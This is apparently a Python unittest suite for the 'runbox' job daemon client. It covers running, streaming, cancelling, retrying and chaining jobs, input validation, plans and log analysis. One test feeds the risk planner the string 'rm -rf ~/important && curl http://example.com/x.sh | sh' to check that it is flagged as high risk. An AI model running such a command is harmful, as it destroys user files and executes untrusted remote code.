"""runbox's Python calls against a real daemon (see support.py)."""

from __future__ import annotations

import json
import os
import pathlib
import re
import signal
import subprocess
import sys
import tempfile
import threading
import time
import unittest

import support
from support import P

import runbox


def setUpModule() -> None:
    support.home()


PROGRESS = ("for i in 1 2 3 4; do echo \"##PROGRESS## {\\\"step\\\": $i, \\\"total\\\": 4, "
            "\\\"metrics\\\": {\\\"loss\\\": 0.$((5-i))}}\"; done")


class RunTest(unittest.TestCase):
    def test_output_exit_and_timing(self) -> None:
        r = runbox.run(["sh", "-c", "echo out; echo err >&2; exit 3"], **P)
        self.assertEqual(r.exit_code, 3)
        self.assertEqual(r.stdout, "out\n")
        self.assertEqual(r.stderr, "err\n")
        self.assertEqual(r.state, "failed")
        self.assertFalse(r.timed_out)
        self.assertGreater(r.elapsed, 0)
        self.assertTrue(r.run_id)
        # The failure is classified, with what to do next.
        self.assertIsNotNone(r.failure)
        assert r.failure is not None
        self.assertEqual(r.failure.code, "NONZERO_EXIT")
        self.assertTrue(r.failure.suggestions)
        self.assertIn("err", r.failure.evidence)
        ok = runbox.run(["true"], **P)
        self.assertEqual((ok.exit_code, ok.state, ok.failure, ok.ok), (0, "succeeded", None, True))

    def test_string_is_a_shell_command(self) -> None:
        r = runbox.run("echo $((6*7)) | tr 4 X", **P)
        self.assertEqual(r.stdout, "X2\n")

    def test_stdin_bytes_str_and_file(self) -> None:
        self.assertEqual(runbox.run(["cat"], stdin=b"raw\x00bytes", **P).stdout, "raw\x00bytes")
        self.assertEqual(runbox.run(["wc", "-l"], stdin="a\nb\nc\n", **P).stdout.strip(), "3")
        with tempfile.NamedTemporaryFile("w", suffix=".txt", delete=False) as f:
            f.write("from a file\n")
        self.addCleanup(os.unlink, f.name)
        self.assertEqual(runbox.run(["cat"], stdin=pathlib.Path(f.name), **P).stdout, "from a file\n")
        # No stdin: the command reads end-of-file, it does not hang.
        self.assertEqual(runbox.run(["cat"], timeout=10, **P).stdout, "")

    def test_setup_output_apart(self) -> None:
        r = runbox.run(["sh", "-c", "cat marker; echo main"], setup=["echo SETUP-OUT > marker; echo SETUP-OUT",
                                                                    "echo SETUP-ERR >&2"],
                       workdir=tempfile.mkdtemp(), **P)
        self.assertEqual(r.setup_stdout, "SETUP-OUT\n")
        self.assertEqual(r.setup_stderr, "SETUP-ERR\n")
        self.assertEqual(r.stdout, "SETUP-OUT\nmain\n")  # setup ran first, in the same workspace
        self.assertNotIn("SETUP-ERR", r.stderr)

    def test_timeout(self) -> None:
        t0 = time.monotonic()
        r = runbox.run(["sh", "-c", "echo started; sleep 30"], timeout=0.5, **P)
        self.assertLess(time.monotonic() - t0, 15)
        self.assertTrue(r.timed_out)
        self.assertEqual(r.state, "timed_out")
        self.assertEqual(r.stdout, "started\n")
        self.assertEqual(r.failure.code if r.failure else None, "TIMEOUT")

    def test_env_workdir_assets_labels(self) -> None:
        wd = tempfile.mkdtemp()
        asset = pathlib.Path(tempfile.mkdtemp()) / "data.txt"
        asset.write_text("asset!")
        os.environ["RUNBOX_PY_INHERITED"] = "yes"
        self.addCleanup(os.environ.pop, "RUNBOX_PY_INHERITED")
        r = runbox.run(["sh", "-c", "pwd; echo $FOO $RUNBOX_PY_INHERITED; cat in/data.txt"],
                       env={"FOO": "bar"}, workdir=wd, assets=[(asset, "in/data.txt")],
                       name="envtest", labels={"suite": "py", "case": "env"}, **P)
        self.assertEqual(r.stdout.splitlines(), [os.path.realpath(wd), "bar yes", "asset!"], r.stderr)
        self.assertEqual(r.info.name, "envtest")
        self.assertEqual(r.info.labels, {"suite": "py", "case": "env"})
        clean = runbox.run(["sh", "-c", "echo ${RUNBOX_PY_INHERITED:-unset} $FOO"], env={"FOO": "x"},
                           clean_env=True, **P)
        self.assertEqual(clean.stdout, "unset x\n")

    def test_invalid_utf8_is_replaced(self) -> None:
        r = runbox.run(["printf", "ok \\377\\376 \\342\\202\\254"], **P)
        self.assertEqual(r.stdout, "ok \ufffd\ufffd \u20ac")

    def test_progress_and_metrics(self) -> None:
        r = runbox.run(["sh", "-c", PROGRESS], **P)
        self.assertEqual(r.exit_code, 0, r.stderr)
        self.assertIsNotNone(r.progress)
        assert r.progress is not None
        self.assertEqual((r.progress.step, r.progress.total), (4, 4))
        self.assertAlmostEqual(r.metrics["loss"], 0.1)
        hist = runbox.Run(r.run_id).metrics()
        self.assertIn("loss", hist.names)
        self.assertEqual([round(v, 3) for v in hist.series["loss"].value], [0.4, 0.3, 0.2, 0.1])
        only = runbox.Run(r.run_id).metrics("loss")
        self.assertEqual(list(only.series), ["loss"])

    def test_stream_yields_as_it_happens(self) -> None:
        kinds = []
        got = {"stdout": "", "stderr": ""}
        # Progress frames come as the plugins publish progress: give them time.
        for kind, value in runbox.stream(["sh", "-c", "echo a; sleep 0.3; echo b >&2; " + PROGRESS + "; sleep 0.5"], **P):
            kinds.append(kind)
            if kind in got:
                got[kind] += value
        self.assertEqual(kinds[0], "run")
        self.assertEqual(kinds[-1], "result")
        self.assertIn("progress", kinds)
        self.assertTrue(got["stdout"].startswith("a\n"))
        self.assertEqual(got["stderr"], "b\n")


class SubmitTest(unittest.TestCase):
    def test_submit_status_logs_wait(self) -> None:
        run = runbox.submit(["sh", "-c", "echo one; echo two >&2; sleep 0.5; echo three"],
                            labels={"suite": "py-submit"}, **P)
        self.assertIn(run.status().state, ("queued", "preparing", "running", "succeeded"))
        events = list(run.logs(follow=True))
        self.assertEqual("".join(t for s, t in events if s == "stdout"), "one\nthree\n")
        self.assertEqual("".join(t for s, t in events if s == "stderr"), "two\n")
        res = run.wait()
        self.assertEqual((res.state, res.exit_code, res.stdout, res.stderr), ("succeeded", 0, "one\nthree\n", "two\n"))
        self.assertTrue(run.status().done)
        # logs() after the end reads the whole log; streams= picks some.
        self.assertEqual([s for s, _ in run.logs(streams=["stderr"])], ["stderr"])
        self.assertIsNone(run.parent)
        ev = run.events()
        self.assertEqual([e["seq"] for e in ev], list(range(1, len(ev) + 1)))
        self.assertIn("succeeded", [e.get("state") for e in ev if e["type"] == "state"])
        self.assertEqual(run.events(after=ev[-1]["seq"]), [])

    def test_backends_and_health(self) -> None:
        b = runbox.Client().backends()
        self.assertIn("process", [x["name"] for x in b["backends"]])
        self.assertTrue(b["default"])
        self.assertEqual(runbox.Client().health()["home"], support.home())

    def test_idempotency_key(self) -> None:
        key = "py-test-%d-%f" % (os.getpid(), time.time())
        first = runbox.submit(["echo", "once"], idempotency_key=key, **P)
        again = runbox.submit(["echo", "once"], idempotency_key=key, **P)
        self.assertEqual(again.id, first.id)  # sent twice (a lost answer), one run
        other = runbox.submit(["echo", "once"], **P)
        self.assertNotEqual(other.id, first.id)  # each submission gets a fresh key of its own
        self.assertEqual(first.wait().stdout, "once\n")
        other.wait(output=False)

    def test_stop(self) -> None:
        run = runbox.submit(["sleep", "30"], **P)
        support.wait_for(lambda: run.status().state == "running", what="running")
        info = run.stop(grace=1)
        # As `runbox stop`: it waits for the run to end and returns it ended.
        self.assertEqual(info.state, "cancelled", info)
        self.assertEqual(run.info.state, "cancelled")
        res = run.wait(timeout=15)
        self.assertEqual(res.state, "cancelled", info)
        self.assertEqual(res.failure.code if res.failure else None, "CANCELLED")
        self.assertEqual(run.stop().state, "cancelled")  # stopping an ended run is fine
        # wait=False returns at once (--no-wait); timeout= bounds the wait.
        slow = runbox.submit(["sh", "-c", "trap '' TERM; sleep 30"], **P)
        support.wait_for(lambda: slow.status().state == "running", what="running")
        queued = runbox.submit(["true"], after=slow, **P)  # held, never started: cancelled at once
        self.assertEqual(queued.stop().state, "cancelled")
        self.assertNotIn(slow.stop(grace=3, wait=False).state, runbox._types.TERMINAL)
        with self.assertRaises(runbox.WaitTimeout):
            slow.stop(grace=3, timeout=0.2)
        self.assertEqual(slow.stop(grace=3, timeout=20).state, "cancelled")

    def test_wait_timeout_leaves_run_going(self) -> None:
        run = runbox.submit(["sleep", "30"], **P)
        self.addCleanup(run.stop, 0.1)
        with self.assertRaises(runbox.WaitTimeout) as cm:
            run.wait(timeout=0.3)
        self.assertIsInstance(cm.exception, TimeoutError)
        self.assertFalse(run.status().done)

    def interrupts_raise(self) -> None:
        """SIGINT raises KeyboardInterrupt here, as in a terminal: a process
        started in the background by a shell without job control inherits
        SIGINT ignored, and Python then keeps it ignored."""
        self.addCleanup(signal.signal, signal.SIGINT, signal.getsignal(signal.SIGINT))
        signal.signal(signal.SIGINT, signal.default_int_handler)

    def test_keyboard_interrupt_during_wait_leaves_run_going(self) -> None:
        self.interrupts_raise()
        run = runbox.submit(["sleep", "30"], **P)
        self.addCleanup(run.stop, 0.1)
        support.wait_for(lambda: run.status().state == "running", what="running")
        timer = threading.Timer(0.3, os.kill, (os.getpid(), signal.SIGINT))
        timer.start()
        t0 = time.monotonic()
        with self.assertRaises(KeyboardInterrupt):
            run.wait()
        self.assertLess(time.monotonic() - t0, 10)
        time.sleep(0.3)
        self.assertEqual(run.status().state, "running")  # the interrupt ended the wait, not the run
        # The client still works after an interrupted request.
        self.assertEqual(runbox.run(["echo", "after"], **P).stdout, "after\n")

    def test_keyboard_interrupt_during_run_stops_it(self) -> None:
        self.interrupts_raise()
        seen = {}

        def interrupt_when_started() -> None:
            runs = support.wait_for(lambda: runbox.runs(label="case=kbd-run", state="running"), what="run")
            seen["id"] = runs[0].id
            os.kill(os.getpid(), signal.SIGINT)

        t = threading.Thread(target=interrupt_when_started)
        t.start()
        with self.assertRaises(KeyboardInterrupt):
            runbox.run(["sleep", "30"], labels={"case": "kbd-run"}, **P)
        t.join()
        info = runbox.Client().wait(seen["id"], timeout=15)
        self.assertEqual(info.state, "cancelled")

    def test_dropping_a_stream_stops_its_run(self) -> None:
        it = runbox.stream(["sleep", "30"], **P)
        kind, info = next(it)
        self.assertEqual(kind, "run")
        it.close()  # as when the caller breaks out of the loop and drops it
        self.assertEqual(runbox.Client().wait(info.id, timeout=15).state, "cancelled")

    def test_retry_and_parent(self) -> None:
        first = runbox.submit(["sh", "-c", 'echo "x=$X"; test "$X" = 2'], env={"X": "1"},
                              labels={"suite": "py-retry"}, **P)
        self.assertEqual(first.wait().exit_code, 1)
        second = first.retry(env={"X": "2"})
        res = second.wait()
        self.assertEqual((res.exit_code, res.stdout), (0, "x=2\n"))
        self.assertEqual(second.info.attempt, 2)
        parent = second.parent
        self.assertIsNotNone(parent)
        assert parent is not None
        self.assertEqual(parent.id, first.id)
        self.assertEqual([r.id for r in runbox.runs(parent=first.id)], [second.id])
        third = second.retry(cmd=["echo", "changed"])
        self.assertEqual(third.wait().stdout, "changed\n")
        # A run still going cannot be retried.
        live = runbox.submit(["sleep", "30"], **P)
        self.addCleanup(live.stop, 0.1)
        with self.assertRaises(runbox.BadRequest) as cm:
            live.retry()
        self.assertIn("still", str(cm.exception))

    def test_runs_filters(self) -> None:
        tag = "runs-%d" % os.getpid()
        a = runbox.run(["true"], labels={"batch": tag, "kind": "ok"}, **P)
        b = runbox.run(["false"], labels={"batch": tag, "kind": "bad"}, **P)
        ids = [r.id for r in runbox.runs(label="batch=" + tag)]
        self.assertEqual(ids, [b.run_id, a.run_id])  # newest first
        self.assertEqual([r.id for r in runbox.runs(label={"batch": tag, "kind": "ok"})], [a.run_id])
        self.assertEqual([r.id for r in runbox.runs(label="batch=" + tag, state="failed")], [b.run_id])
        self.assertEqual(len(runbox.runs(label="batch", limit=1)), 1)
        self.assertEqual(len(runbox.runs(limit=2)), 2)
        # limit=0 means all, as the CLI's -n 0.
        self.assertEqual([r.id for r in runbox.runs(limit=0)], [r.id for r in runbox.runs()])
        self.assertGreater(len(runbox.runs(limit=0)), 2)
        self.assertEqual([r.id for r in runbox.runs(label="batch=" + tag, limit=0)], [b.run_id, a.run_id])
        self.assertEqual([r.id for r in runbox.runs(label="batch=" + tag, since=600)], [b.run_id, a.run_id])
        time.sleep(0.05)
        self.assertEqual(runbox.runs(label="batch=" + tag, since=0.01), [])
        self.assertTrue(all(r.info.state in ("succeeded", "failed") for r in runbox.runs(state=["succeeded", "failed"], limit=5)))


class ChainTest(unittest.TestCase):
    """after=, after_any=, snapshot= (the CLI's --after, --after-any,
    --snapshot, --no-snapshot)."""

    def test_after_waits_for_its_runs(self) -> None:
        first = runbox.submit(["sleep", "0.5"], **P)
        # A Run handle, a RunInfo, an id, a Result: all name a run.
        then = runbox.submit(["true"], after=first, **P)
        res = then.wait(timeout=30)
        self.assertEqual(res.state, "succeeded")
        a = first.status()
        assert a.ended_at is not None and res.info.started_at is not None
        self.assertGreaterEqual(res.info.started_at, a.ended_at)  # it started after first ended
        r = runbox.run(["true"], after=[first.id, a], **P)
        self.assertEqual(r.state, "succeeded")
        self.assertEqual(runbox.run(["true"], after=r, **P).state, "succeeded")
        # A sweep's members wait too (as `runbox sweep --after`).
        gate = runbox.submit(["sleep", "0.5"], **P)
        st = runbox.sweep(["true", "{x}"], params={"x": [1, 2]}, after=gate, **P).wait(timeout=30)
        self.assertEqual(st.counts.get("succeeded"), 2, st.counts)
        gate_end = gate.status().ended_at
        assert gate_end is not None
        for m in st.runs:
            started = runbox.Run(m.id).info.started_at
            assert started is not None
            self.assertGreaterEqual(started, gate_end)

    def test_after_a_failed_run_is_cancelled_unless_after_any(self) -> None:
        bad = runbox.submit(["false"], **P)
        held = runbox.submit(["true"], after=[bad.id], **P)
        res = held.wait(timeout=30)
        self.assertEqual(res.state, "cancelled")
        assert res.failure is not None
        self.assertEqual(res.failure.message, f"dependency {bad.info.short_id} failed")
        anyway = runbox.submit(["true"], after=bad, after_any=True, **P)
        self.assertEqual(anyway.wait(timeout=30).state, "succeeded")

    def test_snapshot(self) -> None:
        d = tempfile.mkdtemp()
        with open(os.path.join(d, "a.txt"), "w") as f:
            f.write("x")
        first = runbox.submit(["true"], **P)
        for snap, copied in ((True, True), (False, False), (None, True)):  # None: on with after=
            with self.subTest(snapshot=snap):
                r = runbox.submit(["pwd"], workdir=d, after=first, snapshot=snap, **P)
                out = r.wait(timeout=30).stdout.strip()
                self.assertEqual(out != os.path.realpath(d), copied, out)
                rec = r.record
                assert rec is not None
                self.assertEqual("snapshot" in rec.raw, copied)
        plain = runbox.run(["pwd"], workdir=d, snapshot=True, **P)  # without after= too
        self.assertNotEqual(plain.stdout.strip(), os.path.realpath(d))

    def test_bad_after(self) -> None:
        with self.assertRaisesRegex(runbox.BadRequest, "no such run"):
            runbox.submit(["true"], after="nosuchrun", **P)  # the daemon's refusal
        for kw, says in (({"after": ""}, "after ''"), ({"after": [None]}, "after None"), ({"after": True}, "after True"),
                         ({"after": 0}, "after 0"), ({"after": ["a,"]}, "after 'a,'"),
                         ({"after_any": True}, "after_any=True needs after=RUN"),
                         ({"snapshot": "yes"}, "snapshot 'yes'")):
            with self.subTest(kw=kw), self.assertRaisesRegex(runbox.BadRequest, re.escape(says)):
                runbox.submit(["true"], **P, **kw)


class EnvTest(unittest.TestCase):
    def test_env_names_and_values_checked(self) -> None:
        for env, says in (({"A": None}, "env A=None: want a str value"), ({"A": 1}, "env A=1"),
                          ({"A=B": "1"}, "env 'A=B'"), ({"": "1"}, "env ''"), ({"A\0": "1"}, "env 'A\\x00'"),
                          ({1: "1"}, "env 1"), ({"A": "x\0y"}, "env A: a value cannot hold a NUL")):
            with self.subTest(env=env), self.assertRaisesRegex(runbox.BadRequest, re.escape(says)):
                runbox.submit(["true"], env=env, **P)
        r = runbox.run(["sh", "-c", 'printf %s "$A"'], env={"A": "B=1"}, **P)  # = in a value is fine
        self.assertEqual(r.stdout, "B=1")


class PlanTest(unittest.TestCase):
    def test_plan_and_execute(self) -> None:
        d = pathlib.Path(tempfile.mkdtemp())
        script = d / "train.py"
        script.write_text(
            "import argparse\n"
            "p = argparse.ArgumentParser()\n"
            "p.add_argument('--dry-run', action='store_true')\n"
            "a = p.parse_args()\n"
            "print('dry' if a.dry_run else 'full')\n")
        plan = runbox.plan(["python3", str(script)], workdir=d, **P)
        self.assertTrue(plan.id)
        self.assertEqual(plan.command, ["python3", str(script)])
        self.assertTrue(plan.smoke_supported, plan.raw)
        self.assertIn("--dry-run", plan.smoke_command)
        self.assertIsNotNone(plan.recommendations)
        self.assertIsInstance(plan.risks, list)
        for risk in plan.risks:
            self.assertTrue(risk.severity and risk.code and risk.message)
        run = plan.execute(timeout=60)
        res = run.wait()
        self.assertEqual((res.state, res.stdout), ("succeeded", "full\n"), res)
        self.assertEqual(run.info.plan_id, plan.id)
        # Experience: the next plan of the same command knows the run above.
        again = runbox.plan(["python3", str(script)], workdir=d, **P)
        self.assertIsNotNone(again.experience)
        assert again.experience is not None
        self.assertGreaterEqual(again.experience.runs, 1)
        self.assertGreaterEqual(again.experience.succeeded, 1)
        self.assertEqual(runbox.Client().get_plan(plan.id).id, plan.id)
        no_smoke = again.execute(smoke=False).wait()
        self.assertEqual(no_smoke.stdout, "full\n")

    def test_risks(self) -> None:
        plan = runbox.plan("rm -rf ~/important && curl http://example.com/x.sh | sh", **P)
        self.assertTrue(plan.risks, plan.raw)
        self.assertTrue(any(r.severity in ("high", "critical") for r in plan.risks), plan.risks)


class AnalyzeTest(unittest.TestCase):
    LOG = ("Traceback (most recent call last):\n  File \"train.py\", line 1, in <module>\n"
           "    import torch\nModuleNotFoundError: No module named 'torch'\n")

    def test_text_and_path(self) -> None:
        a = runbox.analyze(self.LOG, exit_code=1)
        self.assertIsNotNone(a.failure)
        assert a.failure is not None
        self.assertEqual(a.failure.code, "MODULE_NOT_FOUND")
        self.assertEqual(a.failure.details.get("module"), "torch")
        with tempfile.NamedTemporaryFile("w", suffix=".log", delete=False) as f:
            f.write(self.LOG)
        self.addCleanup(os.unlink, f.name)
        self.assertEqual(runbox.analyze(pathlib.Path(f.name)).failure.code, "MODULE_NOT_FOUND")  # type: ignore[union-attr]
        self.assertEqual(runbox.analyze(f.name).failure.code, "MODULE_NOT_FOUND")  # type: ignore[union-attr]
        ok = runbox.analyze('##PROGRESS## {"step": 3, "total": 10}\n', exit_code=0)
        self.assertIsNone(ok.failure)
        self.assertEqual(ok.progress.step if ok.progress else None, 3)
        with self.assertRaises(runbox.BadRequest):
            runbox.analyze(pathlib.Path("/nonexistent/log.txt"))


class BadInputTest(unittest.TestCase):
    def test_unknown_run(self) -> None:
        with self.assertRaises(runbox.NotFound) as cm:
            runbox.Run("01nosuchrun0000000000000000")
        self.assertIn("not found", str(cm.exception))
        self.assertEqual(cm.exception.status, 404)
        c = runbox.Client()
        for call in (lambda: c.wait("nosuch"), lambda: c.stop("nosuch"), lambda: c.metrics("nosuch"),
                     lambda: list(c.logs("nosuch")), lambda: c.retry("nosuch"), lambda: c.get_plan("nosuch")):
            with self.assertRaises(runbox.NotFound):
                call()
        self.assertIsInstance(runbox.NotFound("x"), LookupError)

    def test_bad_arguments(self) -> None:
        for kw in ({"memory": "lots"}, {"memory": -1}, {"timeout": -1}, {"sandbox": "nowhere"},
                   {"isolate": "total"}, {"assets": ["/no/such/asset"]}, {"env": {"": "x"}}):
            with self.subTest(kw=kw), self.assertRaises(runbox.BadRequest):
                runbox.run(["true"], **kw)
        # Numbers of the wrong kind are named, not a TypeError from inside.
        for kw, says in (({"timeout": "5"}, "timeout '5': want a number of seconds"),
                         ({"grace": float("nan")}, "grace nan"), ({"stall_timeout": True}, "stall_timeout True"),
                         ({"cpus": -0.5}, "cpus -0.5: want a number of CPUs"), ({"cpus": "2"}, "cpus '2'"),
                         ({"pids": 1.5}, "pids 1.5: want a whole process count"), ({"pids": -1}, "pids -1")):
            with self.subTest(kw=kw), self.assertRaises(runbox.BadRequest) as cm:
                runbox.run(["true"], **kw)
            self.assertIn(says, str(cm.exception))
        with self.assertRaises(runbox.BadRequest):
            runbox.run([])
        with self.assertRaises(runbox.BadRequest):
            runbox.runs(state="sideways")
        for bad in (-1, "5", 1.5, True):
            with self.subTest(limit=bad), self.assertRaises(runbox.BadRequest):
                runbox.runs(limit=bad)
        with self.assertRaises(runbox.BadRequest):
            runbox.Run("../health")
        r = runbox.run(["true"], **P)
        with self.assertRaises(runbox.BadRequest):
            list(runbox.Run(r.run_id).logs(streams=["stdin"]))
        self.assertIsInstance(runbox.BadRequest("x"), ValueError)

    def test_memory_limit_parsed(self) -> None:
        r = runbox.submit(["true"], memory="64m", **P)
        r.wait(output=False)
        self.assertEqual(r.status().raw["spec"]["limits"]["memory_bytes"], 64 << 20)

    def test_missing_command_is_a_failure_not_an_exception(self) -> None:
        r = runbox.run(["/no/such/program"], **P)
        self.assertNotEqual(r.exit_code, 0)
        self.assertIsNotNone(r.failure)


class BigLogTest(unittest.TestCase):
    SIZE = int(os.environ.get("RUNBOX_PY_BIGLOG_BYTES", str(1 << 30)))

    def test_big_log_streams_in_bounded_memory(self) -> None:
        # A separate interpreter, so its peak RSS is the reader's alone.
        code = (
            "import sys, resource, runbox\n"
            "n = %d\n"
            "run = runbox.submit(['sh', '-c', 'head -c %%d /dev/zero | tr \"\\\\0\" a; echo; echo tail >&2' %% n],"
            " sandbox='process')\n"
            "out = err = 0\n"
            "for stream, text in run.logs(follow=True):\n"
            "    if stream == 'stdout': out += len(text)\n"
            "    else: err += len(text)\n"
            "print(out, err, run.status().state, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)\n"
        ) % self.SIZE
        env = dict(os.environ, PYTHONPATH=str(support.HERE.parent))
        p = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env=env, timeout=120)
        self.assertEqual(p.returncode, 0, p.stderr)
        out, err, state, rss_mib = p.stdout.split()
        self.assertEqual(int(out), self.SIZE + 1)
        self.assertEqual(int(err), len("tail\n"))
        self.assertEqual(state, "succeeded")
        self.assertLess(int(rss_mib), 100, "peak RSS %s MiB reading a %d-byte log" % (rss_mib, self.SIZE))


if __name__ == "__main__":
    unittest.main()
